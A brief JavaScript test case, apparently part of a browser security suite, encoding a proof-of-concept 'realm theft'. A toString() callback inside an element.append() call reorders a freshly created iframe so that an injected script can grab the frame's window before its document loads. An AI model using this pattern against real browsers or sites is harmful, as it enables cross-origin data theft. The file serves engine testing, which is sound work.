// E09: an argument that is no node is asked for its text after the nodes before it were looked at.
import { NAVIGATES, realmTheft } from './thief.mjs';

export default realmTheft({
  id: 'E09',
  title: 'fetch of a frame put into a tree while the other argument is made into text',
  source: 'our own review of what an insertion costs',
  engines: NAVIGATES,

  attack: async () => {
    // A document that takes its time: until it does, the first one is there to be used.
    const frame = document.createElement('iframe');
    frame.src = '/api/late';
    const script = document.createElement('script');
    script.textContent = 'steal(window[0])';
    const holder = document.createElement('div');
    holder.append('', script);
    document.documentElement.append(holder, {
      toString() {
        holder.prepend(frame);
        return '';
      },
    });
  },
});
